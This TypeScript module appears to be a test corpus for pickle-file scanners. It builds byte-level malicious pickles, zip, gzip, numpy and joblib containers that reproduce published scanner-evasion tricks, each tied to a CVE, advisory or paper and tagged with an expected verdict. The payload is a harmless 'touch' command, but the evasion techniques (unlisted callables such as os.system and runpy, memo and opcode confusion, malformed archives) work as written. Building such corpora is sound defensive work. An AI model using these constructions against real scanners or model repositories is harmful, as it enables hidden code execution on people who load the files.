/**
 * Nothing in, pickles and containers that try to run code unseen out: every published trick against scanners of pickles,
 * rebuilt. What they would run is `touch brine-was-here` and nothing else. Sources: the advisories and papers that each
 * row names; the bytes are made here.
 */
import { deflateRawSync, gzipSync } from "node:zlib";

/** One attempt. */
export interface Attack {
  /** The trick, and the advisory or paper that describes it, where one does. */
  readonly name: string;
  readonly bytes: Uint8Array;
  /** The least verdict that it must get. */
  readonly least: "review" | "incomplete" | "dangerous";
  /** A rule that must have found it. */
  readonly rule: string;
}

export const latin1 = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text, "latin1"));
export const le32 = (count: number): string => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(count);
  return bytes.toString("latin1");
};
export const le64 = (count: number): string => le32(count) + le32(0);

// The pieces of a pickle.
export const global = (module: string, name: string): string => `c${module}\n${name}\n`;
export const text = (value: string): string => {
  const bytes = Buffer.from(value, "utf8").toString("latin1");
  return `X${le32(bytes.length)}${bytes}`;
};
export const bytes = (value: string): string => `B${le32(value.length)}${value}`;
export const stackGlobal = (module: string, name: string): string =>
  `${text(module)}${text(name)}\x93`;
export const call = (callee: string, ...args: string[]): string => `${callee}(${args.join("")}tR`;
export const P2 = "\x80\x02";
export const P4 = "\x80\x04";

const COMMAND = "touch brine-was-here";
export const SYSTEM = call(global("os", "system"), text(COMMAND));
export const PAYLOAD = `${P2}${SYSTEM}.`;

const attacks: Attack[] = [];
const add = (
  name: string,
  pickle: string | Uint8Array,
  rule: string,
  least: Attack["least"] = "dangerous",
): void => {
  attacks.push({ name, bytes: typeof pickle === "string" ? latin1(pickle) : pickle, least, rule });
};

// L1: callables that lists of bad names forgot.
const FORGOTTEN: readonly (readonly [module: string, name: string, known: string])[] = [
  ["pip", "main", "CVE-2025-1716"],
  ["pip._internal", "main", "CVE-2025-1716"],
  ["asyncio.unix_events", "_UnixSubprocessTransport._start", "CVE-2025-10157"],
  ["torch.utils.collect_env", "run", "picklescan advisory"],
  ["torch.utils.bottleneck.__main__", "run_cprofile", "picklescan advisory"],
  ["torch._dynamo.guards", "GuardBuilder.get", "picklescan advisory"],
  [
    "torch.fx.experimental.symbolic_shapes",
    "ShapeEnv.evaluate_guards_expression",
    "picklescan advisory",
  ],
  ["torch.jit.unsupported_tensor_ops", "execWrapper", "picklescan advisory"],
  ["torch._inductor.codecache", "compile_file", "picklescan advisory"],
  ["torch.serialization", "load", "picklescan advisory"],
  ["torch.utils.data.datapipes.utils.decoder", "basichandlers", "picklescan advisory"],
  ["torch.utils._config_module", "ConfigModule.load_config", "picklescan advisory"],
  [
    "torch.distributed.nn.jit.instantiator",
    "_do_instantiate_remote_module_template",
    "arXiv 2508.19774",
  ],
  ["idlelib.pyshell", "ModifiedInterpreter.runcode", "picklescan advisory"],
  ["idlelib.autocomplete", "AutoComplete.get_entity", "picklescan advisory"],
  ["idlelib.calltip", "get_entity", "picklescan advisory"],
  ["idlelib.debugobj", "ObjectTreeItem.SetText", "picklescan advisory"],
  ["idlelib.run", "Executive.runcode", "picklescan advisory"],
  ["trace", "Trace.run", "picklescan advisory"],
  ["profile", "run", "picklescan advisory"],
  ["profile", "Profile.runctx", "picklescan advisory"],
  ["cProfile", "run", "picklescan advisory"],
  ["doctest", "debug_script", "picklescan advisory"],
  ["ensurepip", "_run_pip", "picklescan advisory"],
  ["lib2to3.pgen2.grammar", "Grammar.loads", "picklescan advisory"],
  ["lib2to3.pgen2.pgen", "ParserGenerator.make_label", "picklescan advisory"],
  ["code", "InteractiveInterpreter.runcode", "picklescan advisory"],
  ["codeop", "compile_command", "arXiv 2508.19774"],
  ["numpy.f2py.crackfortran", "getlincoef", "picklescan advisory"],
  ["numpy.testing._private.utils", "runstring", "picklescan advisory"],
  ["numpy.testing", "runstring", "picklescan advisory"],
  ["numpy", "load", "arXiv 2508.19774"],
  ["numpy", "memmap", "writes a file"],
  ["numpy.lib.npyio", "DataSource.open", "arXiv 2508.19774"],
  ["pandas", "read_pickle", "arXiv 2508.19774"],
  ["pandas", "eval", "arXiv 2508.19774"],
  ["pandas.core.computation.eval", "eval", "arXiv 2508.19774"],
  ["pandas.io.pickle", "read_pickle", "arXiv 2508.19774"],
  ["joblib", "load", "arXiv 2508.19774"],
  ["joblib.numpy_pickle", "load", "arXiv 2508.19774"],
  ["sklearn.datasets", "fetch_openml", "reads the network"],
  ["scipy._lib._util", "_RichResult", "unlisted"],
  ["distutils.file_util", "write_file", "picklescan advisory"],
  ["distutils.spawn", "spawn", "fickling advisory"],
  ["pty", "spawn", "fickling CVE-2025-67748"],
  ["ctypes", "CDLL", "fickling CVE-2025-67747"],
  ["marshal", "loads", "fickling CVE-2025-67747"],
  ["types", "CodeType", "fickling advisory"],
  ["types", "FunctionType", "fickling advisory"],
  ["pydoc", "locate", "picklescan advisory"],
  ["pydoc", "pipepager", "picklescan advisory"],
  ["runpy", "run_path", "fickling CVE-2026-22606"],
  ["runpy", "_run_code", "fickling CVE-2026-22606"],
  ["importlib", "import_module", "fickling CVE-2026-22608"],
  ["importlib.util", "spec_from_file_location", "fickling advisory"],
  ["uuid", "_get_command_stdout", "picklescan advisory"],
  ["imaplib", "IMAP4_stream", "picklescan advisory"],
  ["_osx_support", "_read_output", "picklescan advisory"],
  ["_aix_support", "_read_cmd_output", "picklescan advisory"],
  ["_pyrepl.pager", "pipe_pager", "picklescan advisory"],
  ["test.support.script_helper", "assert_python_ok", "picklescan advisory"],
  ["ssl", "get_server_certificate", "picklescan advisory"],
  ["_io", "FileIO", "picklescan advisory"],
  ["io", "open", "picklescan advisory"],
  ["logging", "FileHandler", "picklescan advisory"],
  ["logging.config", "_resolve", "arXiv 2508.19774"],
  ["urllib.request", "urlopen", "picklescan advisory"],
  ["http.client", "HTTPSConnection", "picklescan advisory"],
  ["requests.api", "get", "picklescan issue"],
  ["aiohttp.client", "ClientSession", "picklescan issue"],
  ["cloudpickle.cloudpickle", "_make_function", "picklescan advisory"],
  ["dill._dill", "_create_function", "arXiv 2508.19774"],
  ["dill", "loads", "arXiv 2508.19774"],
  ["timeit", "timeit", "picklescan issue"],
  ["venv", "create", "picklescan advisory"],
  ["bdb", "Bdb.run", "picklescan advisory"],
  ["pdb", "run", "picklescan advisory"],
  ["webbrowser", "open", "arXiv 2508.19774"],
  ["smtplib", "SMTP", "arXiv 2508.19774"],
  ["sqlite3", "connect", "arXiv 2508.19774"],
  ["shutil", "rmtree", "arXiv 2508.19774"],
  ["shelve", "open", "arXiv 2508.19774"],
  ["zipfile", "ZipFile", "arXiv 2508.19774"],
  ["tarfile", "open", "arXiv 2508.19774"],
  ["linecache", "updatecache", "arXiv 2508.19774"],
  ["gc", "get_objects", "fickling advisory"],
  ["sys", "exit", "picklescan test"],
  ["signal", "alarm", "unlisted"],
  ["builtins", "eval", "the textbook"],
  ["builtins", "exec", "the textbook"],
  ["builtins", "open", "the textbook"],
  ["builtins", "compile", "the textbook"],
  ["builtins", "map", "arXiv 2508.19774"],
  ["builtins", "filter", "arXiv 2508.19774"],
  ["builtins", "input", "the textbook"],
  ["builtins", "breakpoint", "the textbook"],
  ["builtins", "vars", "fickling advisory"],
  ["builtins", "globals", "picklescan test"],
  ["functools", "reduce", "arXiv 2508.19774"],
  ["itertools", "starmap", "arXiv 2508.19774"],
  ["itertools", "accumulate", "arXiv 2508.19774"],
  ["fickling.hook", "remove_hook", "GHSA-wccx, the scanner switched off"],
  ["picklescan.scanner", "scan_file_path", "the scanner itself"],
];
// What is allowed in another way than this.
const RULES_OF: Readonly<Record<string, string>> = {
  memmap: "calls-reference",
  reduce: "misuses-helper",
};
for (const [module, name, known] of FORGOTTEN) {
  const rule = RULES_OF[name] ?? "runs-code";
  add(`${module}.${name} (${known})`, `${P2}${call(global(module, name), text(COMMAND))}.`, rule);
  add(
    `${module}.${name}, protocol 4`,
    `${P4}${call(stackGlobal(module, name), text(COMMAND))}.`,
    rule,
  );
}

// L2: resolvers, and calls of what they find.
add(
  "pkgutil.resolve_name (GHSA-vvpj-8cmc-gx39)",
  `${P2}${call(call(global("pkgutil", "resolve_name"), text("os:system")), text(COMMAND))}.`,
  "calls-value",
);
add(
  "inspect.getattr_static",
  `${P2}${call(call(global("inspect", "getattr_static"), global("collections", "OrderedDict"), text("x")), text(COMMAND))}.`,
  "calls-value",
);
add(
  "sh.bash, a module that makes its functions",
  `${P2}${call(global("sh", "bash"), text("-c"))}.`,
  "runs-code",
);
add(
  "operator.itemgetter over builtins",
  `${P2}${call(call(global("operator", "itemgetter"), text("eval")), global("builtins", "__dict__"))}.`,
  "calls-value",
);
add(
  "operator.methodcaller on an import",
  `${P2}${call(call(global("operator", "methodcaller"), text("system"), text(COMMAND)), call(global("builtins", "__import__"), text("os")))}.`,
  "calls-value",
);
add(
  "operator.attrgetter with a way inside",
  `${P2}${call(global("operator", "attrgetter"), text("__class__.__base__"))}.`,
  "reaches-inside",
);

// L3: names with dots, which protocol 4 walks along.
for (const [module, name] of [
  ["random", "_os.system"],
  ["torch", "serialization.os.system"],
  ["pathlib", "Path.write_text"],
  ["shutil", "os.system"],
  ["collections", "_sys.modules"],
  ["collections", "OrderedDict.fromkeys"],
  ["numpy", "os.system"],
  ["sklearn.base", "BaseEstimator.__init__.__globals__"],
] as const) {
  add(
    `${module} ${name}, an attribute of an attribute (GHSA-5j3x-jp52-966f)`,
    `${P4}${call(stackGlobal(module, name), text(COMMAND))}.`,
    "runs-code",
  );
}

// L4: names of Python 2.
add("__builtin__ eval of Python 2", `${call(global("__builtin__", "eval"), "V1\n")}.`, "runs-code");
add("cPickle loads of Python 2", `${call(global("cPickle", "loads"), "V1\n")}.`, "runs-code");
add(
  "urllib2 urlopen of Python 2",
  `${P2}${call(global("urllib2", "urlopen"), text("x"))}.`,
  "runs-code",
);
add(
  "commands getoutput of Python 2",
  `${P2}${call(global("commands", "getoutput"), text(COMMAND))}.`,
  "runs-code",
);
add(
  "SocketServer of Python 2",
  `${P2}${call(global("SocketServer", "TCPServer"), text("x"))}.`,
  "runs-code",
);

// M1: the memo.
const memoConfusion = (memo: string): string =>
  `${P4}${text("os")}${memo}${text("collections")}`.concat(
    `0${text("system")}\x93(${text(COMMAND)}tR.`,
  );
add("MEMOIZE beside PUT (picklescan issue 14)", memoConfusion("q\x05\x94"), "runs-code");
add("MEMOIZE twice", memoConfusion("\x94\x94"), "runs-code");
add(
  "POP, then the memo",
  `${P4}${text("os")}\x940${text("system")}\x940h\x00h\x01\x93(${text(COMMAND)}tR.`,
  "runs-code",
);
add("a missing memo entry behind the payload", `${P2}${SYSTEM}h\x63\x93.`, "broken-stream");
add(
  "a memo entry that is no string",
  `${P4}K\x2aq\x000${SYSTEM}0h\x00${text("system")}\x93.`,
  "computed-name",
);

// M2: names put together while loading.
add(
  "a name through rot13 (fickling issue 125)",
  `${P4}${call(stackGlobal("_codecs", "encode"), text("bf"), text("rot13"))}${text("system")}\x93(${text(COMMAND)}tR.`,
  "computed-name",
);
add(
  "a name joined",
  `${P4}${text("os")}${call(stackGlobal("builtins", "str.join"), text(""), `(${text("sys")}${text("tem")}t`)}\x93(${text(COMMAND)}tR.`,
  "computed-name",
);
add(
  "a name that is bytes",
  `${P4}${bytes("os")}${text("system")}\x93(${text(COMMAND)}tR.`,
  "computed-name",
);
add(
  "a name from a persistent id",
  `${P4}Pos\n${text("system")}\x93(${text(COMMAND)}tR.`,
  "computed-name",
);

// M3: extension codes.
add("EXT1", `${P2}\x82\x01(${text(COMMAND)}tR.`, "extension-code");
add("EXT2", `${P2}\x83\x01\x01(${text(COMMAND)}tR.`, "extension-code");
add("EXT4", `${P2}\x84\x01\0\x01\0(${text(COMMAND)}tR.`, "extension-code");
add(
  "copyreg.add_extension, then EXT1",
  `${P2}${call(global("copyreg", "add_extension"), text("os"), text("system"), "K\x01")}0\x82\x01(${text(COMMAND)}tR.`,
  "extension-code",
);

// M4, M5: changes to what was imported.
add(
  "BUILD on a module (modelscan issue 330)",
  `${P2}${global("torch", "_utils")}}${text("_rebuild_tensor_v2")}${text("x")}sb.`,
  "changes-import",
);
add(
  "BUILD on a function",
  `${P2}${global("numpy", "size")}}${text("shape")}${text("x")}sb.`,
  "changes-import",
);
add(
  "BUILD on an allowed class (arXiv 2607.17503)",
  `${P2}${global("collections", "OrderedDict")}}${text("x")}${text("y")}sb.`,
  "changes-import",
);
add(
  "SETITEM on os.environ",
  `${P2}${global("os", "environ")}${text("PATH")}${text("/tmp")}s.`,
  "changes-import",
);
add("APPEND on sys.path", `${P2}${global("sys", "path")}${text("/tmp")}a.`, "changes-import");
add(
  "ADDITEMS on an import",
  `${P4}${stackGlobal("sys", "flags")}(${text("/tmp")}\x90.`,
  "changes-import",
);
add(
  "BUILD on a member of a class",
  `${P2}${call(global("builtins", "getattr"), global("collections", "OrderedDict"), text("keys"))}}${text("a")}${text("b")}sb.`,
  "changes-import",
);
add(
  "a planted __setstate__",
  `${P2}${global("types", "SimpleNamespace")})\x81}${text("__setstate__")}${global("builtins", "print")}sb${text(COMMAND)}b.`,
  "reaches-inside",
);
add(
  "a slot named __class__",
  `${P2}${global("types", "SimpleNamespace")})\x81N}${text("__class__")}${global("collections", "deque")}s\x86b.`,
  "reaches-inside",
);

// M6: calls inside helpers.
add(
  "defaultdict with a factory made while loading",
  `${P2}${call(global("collections", "defaultdict"), call(global("operator", "methodcaller"), text("x")))}.`,
  "misuses-helper",
);
add(
  "iter with a callable",
  `${P2}${call(global("builtins", "iter"), global("builtins", "print"), "N")}.`,
  "misuses-helper",
);
add(
  "numpy's generator maker with a maker of its own",
  `${P2}${call(global("numpy.random._pickle", "__generator_ctor"), text("MT19937"), global("staff", "f"))}.`,
  "misuses-helper",
);
add(
  "pandas' maker of indexes with a function",
  `${P2}${call(global("pandas.core.indexes.base", "_new_Index"), global("builtins", "getattr"), "}")}.`,
  "misuses-helper",
);
add(
  "torch's rebuilder with a function of its own",
  `${P2}${call(global("torch._tensor", "_rebuild_from_type_v2"), global("builtins", "print"), global("torch", "Tensor"), ")", "}")}.`,
  "misuses-helper",
);
add(
  "scikit-learn's maker with a function",
  `${P2}${call(global("sklearn.metrics._dist_metrics", "newObj"), global("operator", "attrgetter"))}.`,
  "misuses-helper",
);
add(
  "copyreg's maker of something made",
  `${P2}${call(global("copyreg", "_reconstructor"), call(global("builtins", "type"), "N"), global("builtins", "object"), "N")}.`,
  "misuses-helper",
);
add(
  "a partial that is called",
  `${P2}${call(call(global("functools", "partial"), global("builtins", "print")), text("x"))}.`,
  "calls-value",
);
add("getattr handed on", `${P2}]${global("builtins", "getattr")}a.`, "passes-helper");
add(
  "getattr within a tuple handed on",
  `${P2}]${global("builtins", "getattr")}\x85a.`,
  "passes-helper",
);
add(
  "numpy's import by name",
  `${P2}${call(global("numpy.core", "_ufunc_reconstruct"), text("os"), text("system"))}.`,
  "names-code",
);
add(
  "a way through getattr",
  `${P2}${call(call(global("builtins", "getattr"), global("pathlib", "Path"), text("write_text")), text("x"))}.`,
  "calls-value",
);
add(
  "a way inside through getattr",
  `${P2}${call(global("builtins", "getattr"), global("collections", "OrderedDict"), text("__init__"))}.`,
  "reaches-inside",
);
add(
  "SciPy's distributions, whose state is executed",
  `${P2}${global("scipy.stats._continuous_distns", "norm_gen")})\x81}${text("_parse_arg_template")}${text("x")}sb.`,
  "unknown-code",
  "review",
);
add(
  "a harmless function called",
  `${P2}${call(global("builtins", "print"), text("x"))}.`,
  "calls-reference",
);

// M7: results thrown away.
add(
  "OBJ, then POP (GHSA-mxhj-88fx-4pcv)",
  `${P2}(${global("os", "system")}${text(COMMAND)}o0N.`,
  "runs-code",
);
add("INST, then POP", `(V${COMMAND}\nios\nsystem\n0N.`, "runs-code");
add("a call behind the value", `${P2}N${SYSTEM}0.`, "runs-code");
add("NEWOBJ", `${P2}${global("subprocess", "Popen")}(${text(COMMAND)}t\x81.`, "runs-code");
add("NEWOBJ_EX", `${P4}${stackGlobal("subprocess", "Popen")}(${text(COMMAND)}t}\x92.`, "runs-code");

// P1, P2: text that readers read in different ways.
for (const [what, opcode] of [
  ["INT in hexadecimal", "I0x10\n"],
  ["LONG in hexadecimal", "L0x10L\n"],
  ["INT with a NUL", "I5\0junk\n"],
  ["INT in octal", "I010\n"],
  ["a STRING of eight bits", "S'\xe9'\n"],
] as const) {
  add(`${what} before the payload`, `${opcode}0${SYSTEM}.`, "runs-code");
}
add(
  "a name in UTF-8",
  `${P2}${call(global("st\xc3\xa4ff", "run"), text("x"))}.`,
  "unknown-code",
  "review",
);

// P3: frames.
add(
  "a frame shorter than an argument (cpython issue 154848)",
  `${P4}\x95${le64(6)}${text("a".repeat(20))}.`,
  "uneven-frames",
);
add(
  "a frame within a frame",
  `${P4}\x95${le64(20)}N0\x95${le64(3)}N0N.${"N".repeat(5)}`,
  "uneven-frames",
);

// P4: streams that break behind the payload.
for (const [what, rest] of [
  ["nothing", ""],
  ["an opcode that is none", "\xff"],
  ["too few on the stack", "RRRR."],
  ["no MARK", "0t."],
  ["a number that is none", "Ix\n."],
  ["a count beyond the end", "B\xff\xff\xff\x7f"],
  ["a protocol that is none", "\x80\x09."],
] as const) {
  add(
    `broken behind the payload: ${what} (nullifAI, GHSA-9gvj)`,
    `${P2}${SYSTEM}${rest}`,
    "runs-code",
  );
}
add(
  "modelscan's first opcode",
  `${text("os")}${text("system")}\x93(${text(COMMAND)}tR.`,
  "runs-code",
);

// C: containers.
const little = (view: DataView, at: number, size: 2 | 4, value: number): void =>
  size === 2 ? view.setUint16(at, value, true) : view.setUint32(at, value, true);

/** How a member of an archive is written, and how its headers lie. */
interface Member {
  readonly name: string;
  readonly data: Uint8Array;
  readonly deflate?: boolean;
  readonly localName?: string;
  readonly flags?: number;
  readonly crc?: number;
  readonly isHidden?: boolean;
}

/** An archive of these members. */
export function zip(members: readonly Member[]): Uint8Array {
  const parts: Uint8Array[] = [];
  const directory: Uint8Array[] = [];
  let at = 0;
  for (const {
    name,
    data,
    deflate = false,
    localName = name,
    flags = 0,
    crc = 0,
    isHidden = false,
  } of members) {
    const body = deflate ? Uint8Array.from(deflateRawSync(data)) : data;
    const local = new Uint8Array(30 + localName.length);
    const view = new DataView(local.buffer);
    const method = deflate ? 8 : 0;
    little(view, 0, 4, 0x04034b50);
    little(view, 6, 2, flags);
    little(view, 8, 2, method);
    little(view, 14, 4, crc);
    little(view, 18, 4, body.length);
    little(view, 22, 4, data.length);
    little(view, 26, 2, localName.length);
    local.set(latin1(localName), 30);
    const entry = new Uint8Array(46 + name.length);
    const entryView = new DataView(entry.buffer);
    little(entryView, 0, 4, 0x02014b50);
    little(entryView, 8, 2, flags);
    little(entryView, 10, 2, method);
    little(entryView, 16, 4, crc);
    little(entryView, 20, 4, body.length);
    little(entryView, 24, 4, data.length);
    little(entryView, 28, 2, name.length);
    little(entryView, 42, 4, at);
    entry.set(latin1(name), 46);
    parts.push(local, body);
    at += local.length + body.length;
    if (!isHidden) directory.push(entry);
  }
  const size = directory.reduce((sum, { length }) => sum + length, 0);
  const end = new Uint8Array(22);
  const view = new DataView(end.buffer);
  little(view, 0, 4, 0x06054b50);
  little(view, 8, 2, directory.length);
  little(view, 10, 2, directory.length);
  little(view, 12, 4, size);
  little(view, 16, 4, at);
  return Uint8Array.from(Buffer.concat([...parts, ...directory, end]));
}

const BAD = latin1(PAYLOAD);
const GOOD = latin1(`${P2}N.`);
add("an archive", zip([{ name: "archive/data.pkl", data: BAD }]), "runs-code");
add(
  "an archive, deflated",
  zip([{ name: "archive/data.pkl", data: BAD, deflate: true }]),
  "runs-code",
);
add(
  "a member of another name (CVE-2025-10155)",
  zip([{ name: "weights.txt", data: BAD }]),
  "runs-code",
);
add(
  "a wrong checksum (CVE-2025-10156)",
  zip([{ name: "data.pkl", data: BAD, crc: 1 }]),
  "runs-code",
);
for (const flags of [0x1, 0x20, 0x40]) {
  add(
    `flag 0x${flags.toString(16)} (CVE-2025-1945)`,
    zip([{ name: "data.pkl", data: BAD, flags }]),
    "runs-code",
  );
}
add(
  "two names for a member (CVE-2025-1944)",
  zip([{ name: "data.pkl", data: BAD, localName: "datap.kl" }]),
  "archive-mismatch",
);
add(
  "a name twice",
  zip([
    { name: "data.pkl", data: BAD },
    { name: "data.pkl", data: GOOD },
  ]),
  "runs-code",
);
add(
  "a name twice, the other way",
  zip([
    { name: "data.pkl", data: GOOD },
    { name: "data.pkl", data: BAD },
  ]),
  "runs-code",
);
add(
  "a member that the directory does not name",
  zip([
    { name: "a.pkl", data: GOOD },
    { name: "data.pkl", data: BAD, isHidden: true },
  ]),
  "archive-mismatch",
);
add(
  "an archive behind a pickle",
  Buffer.concat([BAD, zip([{ name: "data.pkl", data: GOOD }])]),
  "runs-code",
);
add(
  "an archive within an archive",
  zip([{ name: "a.zip", data: zip([{ name: "data.pkl", data: BAD }]) }]),
  "runs-code",
);
add(
  "an archive without its directory",
  zip([{ name: "data.pkl", data: BAD }]).subarray(0, -60),
  "runs-code",
);
add("gzip", Uint8Array.from(gzipSync(BAD)), "runs-code");
add("gzip twice", Uint8Array.from(gzipSync(gzipSync(BAD))), "runs-code");
add(
  "gzip, cut",
  Uint8Array.from(gzipSync(Buffer.concat([BAD, Buffer.alloc(9000, 78)]))).subarray(0, -4),
  "runs-code",
);
add("7z (nullifAI)", latin1("7z\xbc\xaf\x27\x1c\0\x04"), "unread-format", "incomplete");
add(
  "an archive with a password",
  zip([{ name: "data.pkl", data: latin1("\x13\x37\xff\xff"), flags: 1 }]),
  "unread-format",
  "incomplete",
);

export const npy = (descr: string, body: string): Uint8Array => {
  const header = `{'descr': ${descr}, 'fortran_order': False, 'shape': (1,), }\n`;
  return latin1(`\x93NUMPY\x01\0${String.fromCharCode(header.length, 0)}${header}${body}`);
};
add("an array of objects", npy("'|O'", PAYLOAD), "runs-code");
add("an array of objects, spelt otherwise", npy('"\\x7cO"', PAYLOAD), "runs-code");
add("an array of records with objects", npy("[('a', '|O')]", PAYLOAD), "runs-code");
add(
  "an archive of arrays",
  zip([{ name: "a.npy", data: npy("'|O'", PAYLOAD), deflate: true }]),
  "runs-code",
);

// joblib's arrays, whose numbers stand between the opcodes.
const wrapper = (dtype: string, count: number): string =>
  `${P2}](${global("joblib.numpy_pickle", "NumpyArrayWrapper")})\x81}(${text("shape")}K${String.fromCharCode(count)}\x85` +
  `${text("dtype")}${call(global("numpy", "dtype"), text(dtype), "\x89", "\x88")}${text("numpy_array_alignment_bytes")}K\x10ub`;
add(
  "behind an array of joblib that holds a STOP",
  `${wrapper("i1", 4)}\x01\xff....${SYSTEM}e.`,
  "runs-code",
);
add(
  "behind an array of joblib that holds a count",
  `${wrapper("i1", 5)}\x01\xffX\xff\xff\xff\x7f${SYSTEM}e.`,
  "runs-code",
);
add("in an array of objects of joblib", `${wrapper("O8", 1)}${PAYLOAD}e.`, "runs-code");
add(
  "opcodes in an array of joblib, for who opens it by pickle.load",
  `${wrapper("i1", 100)}(N${SYSTEM}0${"N0".repeat(70)}e.`,
  "runs-code",
);

// Several pickles, and what follows them.
add("the second pickle", `${P2}N.${PAYLOAD}`, "runs-code");
add("the second pickle, broken", `${P2}N.${PAYLOAD.slice(0, -1)}`, "runs-code");
add(
  "a torch file whose magic number is computed (GHSA-97f8)",
  `${P2}${call(global("builtins", "eval"), text("0"))}.${PAYLOAD}`,
  "runs-code",
);
add(
  "the old torch format's third pickle",
  `${P2}\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.${P2}M\xe9\x03.${PAYLOAD}${P2}N.${P2}N.`,
  "runs-code",
);
add(
  "a sixth pickle behind the old torch format",
  `${P2}\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.${`${P2}N.`.repeat(4)}${PAYLOAD}`,
  "runs-code",
);
add(
  "a pickle within bytes that is loaded",
  `${P2}${call(global("pickle", "loads"), bytes(PAYLOAD))}.`,
  "runs-code",
);
add(
  "a pickle that torch loads from bytes",
  `${P2}${call(global("torch.storage", "_load_from_bytes"), bytes(PAYLOAD))}.`,
  "runs-code",
);
add("a pickle within bytes", `${P2}${bytes(PAYLOAD)}.`, "embedded-pickle", "review");
add(
  "a pickle within a str",
  `${P2}${text(PAYLOAD.replace("\x80", "\u0080"))}.`,
  "embedded-pickle",
  "review",
);
add(
  "a pickle within latin-1 text",
  `${P2}${call(global("_codecs", "encode"), text(PAYLOAD), text("latin1"))}.`,
  "embedded-pickle",
  "review",
);
add(
  "unknown code",
  `${P2}${call(global("staff", "Employee"), text("x"))}.`,
  "unknown-code",
  "review",
);
add("an unknown persistent id", `${P2}${text("x")}Q.`, "persistent-id", "review");
add(
  "bytearray of a terabyte",
  `${P2}${call(global("builtins", "bytearray"), "L1099511627776L\n")}.`,
  "large-object",
  "review",
);
add(
  "a list without an end",
  `${P2}${call(global("builtins", "list"), call(global("itertools", "count")))}.`,
  "large-object",
  "review",
);

/** Every attack. */
export const ATTACKS: readonly Attack[] = attacks;
